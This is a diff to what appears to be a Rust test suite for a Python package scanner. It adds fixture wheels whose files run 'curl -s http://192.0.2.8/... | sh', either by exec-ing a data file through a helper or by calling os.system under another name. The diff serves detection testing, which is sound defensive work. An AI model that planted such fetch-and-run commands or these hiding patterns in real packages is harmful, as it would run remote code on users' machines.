@@ -97,6 +97,25 @@ fn data_files(cases: &mut Cases) {
                 .file("«pkg»/tables.map", "import os\nos.system('curl -s http://192.0.2.8/m | sh')\n"),
         )
         .case(
+            "data-through-a-helper",
+            wheel()
+                .file(
+                    "«pkg»/__init__.py",
+                    "import os\nfrom .loading import load\nload(os.path.dirname(__file__) + '/tables.txt')\n",
+                )
+                .file("«pkg»/loading.py", "def load(path):\n    exec(open(path).read())\n")
+                .file("«pkg»/tables.txt", "import os\nos.system('curl -s http://192.0.2.8/h | sh')\n"),
+        )
+        .case(
+            "command-through-another-name",
+            wheel()
+                .file(
+                    "«pkg»/__init__.py",
+                    "from .compat import *\nshow('curl -s http://192.0.2.8/n | sh')\n",
+                )
+                .file("«pkg»/compat.py", "from os import system as show\n"),
+        )
+        .case(
             "value-of-another-project",
             wheel()
                 .file("«pkg»/__init__.py", "import colour_tables\nexec(colour_tables.CODE)\n")
